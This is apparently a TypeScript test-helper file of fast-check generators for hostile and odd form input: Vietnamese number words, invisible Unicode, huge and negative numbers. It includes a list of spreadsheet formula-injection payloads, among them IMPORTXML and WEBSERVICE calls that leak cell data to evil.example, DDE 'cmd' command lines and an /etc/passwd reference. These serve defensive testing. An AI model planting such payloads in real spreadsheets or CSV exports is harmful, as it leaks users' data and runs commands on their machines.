// What people and attackers type, as fast-check arbitraries: number-like text, any Unicode, formula payloads.
import fc from 'fast-check';
import { formatNumber } from '../forms/format.ts';

/** Every property of the bad-input files replays from the same seed; a file may ask for more runs. */
export const REPLAYABLE = { seed: 42, numRuns: 300 } as const;

/** A lone UTF-16 surrogate: text that cannot be encoded (cut emoji) must never be produced. */
const LONE_SURROGATE = /[\uD800-\uDFFF]/u;
export const isWellFormed = (s: string) => !LONE_SURROGATE.test(s);

const NUMBERISH_PIECES = [
  ...'0123456789',
  '０',
  '５',
  '９',
  '.',
  ',',
  ' ',
  '\u00a0',
  '\u202f',
  '\u2009',
  '\u200b',
  '\u200d',
  '\ufeff',
  '\u00ad',
  '-',
  '\u2212',
  '+',
  'triệu',
  'trie\u0323\u0302u',
  'tỷ',
  'tỉ',
  'nghìn',
  'ngàn',
  'k',
  'tr',
  'đồng',
  'đ',
  'vnđ',
  'người',
  'lớp',
  'cuộc',
  'không',
  'kho\u0302ng',
  'e',
  'E',
  '١',
  '٥',
  'Ω',
  'я',
  '中',
  '😀',
  '=',
  '@',
  '\t',
  '\r\n',
  '\u2028',
];

/** Strings built from digits, separators, Vietnamese words (NFC and NFD), invisible and foreign marks. */
export const numberish = fc
  .array(fc.constantFrom(...NUMBERISH_PIECES), { maxLength: 14 })
  .map((parts) => parts.join(''));

/** Text from the whole of Unicode, well-formed (no lone surrogates), as Google can deliver it. */
export const anyText = fc.string({ unit: 'grapheme', maxLength: 80 });
/** Digit strings up to 10^40, far past what a number cell holds. */
export const huge = fc.bigInt({ min: 0n, max: 10n ** 40n }).map(String);
/** Negative numbers with every minus sign a keyboard or a word processor makes. */
export const negative = fc
  .tuple(fc.constantFrom('-', '\u2212', '- ', '\u2013'), fc.maxSafeNat())
  .map(([sign, n]) => `${sign}${formatNumber(n)}`);

/** Text a spreadsheet would run as a formula, or read as one, if written as typed. */
const FORMULA_PAYLOADS = [
  '=IMPORTXML("http://evil.example/?leak="&A1,"//a")',
  '=HYPERLINK("http://evil.example","Bấm vào đây")',
  '=1+1',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=WEBSERVICE("http://evil.example")',
  "='file:///etc/passwd'#$A1",
  '+84 909 123 456',
  '-',
  '=',
];

/** A known formula or CSV-injection payload, or any text behind a character that opens one. */
export const payload = fc.oneof(
  fc.constantFrom(...FORMULA_PAYLOADS),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\t=', ' ='), anyText)
    .map(([p, rest]) => p + rest),
);
